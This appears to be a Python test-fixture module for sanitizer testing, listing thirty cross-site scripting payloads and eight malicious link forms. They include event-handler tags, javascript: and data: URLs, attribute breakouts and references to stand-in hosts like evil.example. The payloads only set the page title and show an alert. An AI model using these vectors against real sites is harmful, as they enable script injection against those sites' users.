"""Thirty ways to get a script into a page (H166). Each, if it runs, changes the title and opens a dialog."""

from __future__ import annotations

RUN = "document.title='pwned';alert(1)"
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f'<script src="data:text/javascript,{RUN}"></script>',
    "<script src=/evil.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f'<svg/onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<body onload="{RUN}">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}"></audio>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<marquee onstart="{RUN}">x</marquee>',
    f"<style>@import'/evil.css';*{{x:expression({RUN})}}</style>",
    f'<link rel=stylesheet href=/evil.css onerror="{RUN}">',
    '<meta http-equiv=refresh content="0;url=/evil">',
    "<base href=//evil.example/>",
    f'<form action=/evil><button autofocus onfocus="{RUN}">x</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f'"><img src=x onerror="{RUN}">',
    f"'-{RUN}-'",
    f"</title></textarea></style></script><script>{RUN}</script>",
    f'{{{{ \'\'.__class__.__mro__ }}}}<x autofocus tabindex=1 onfocus="{RUN}" style="position:fixed">',
)
LINKS = (
    f"javascript:{RUN}",
    f"java&#x0a;script:{RUN}",
    f"java\nscript:{RUN}",
    f" JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://e.example/" onmouseover="{RUN}" x="',
    f"https://e.example/'><script>{RUN}</script>",
)
"""The same as addresses."""
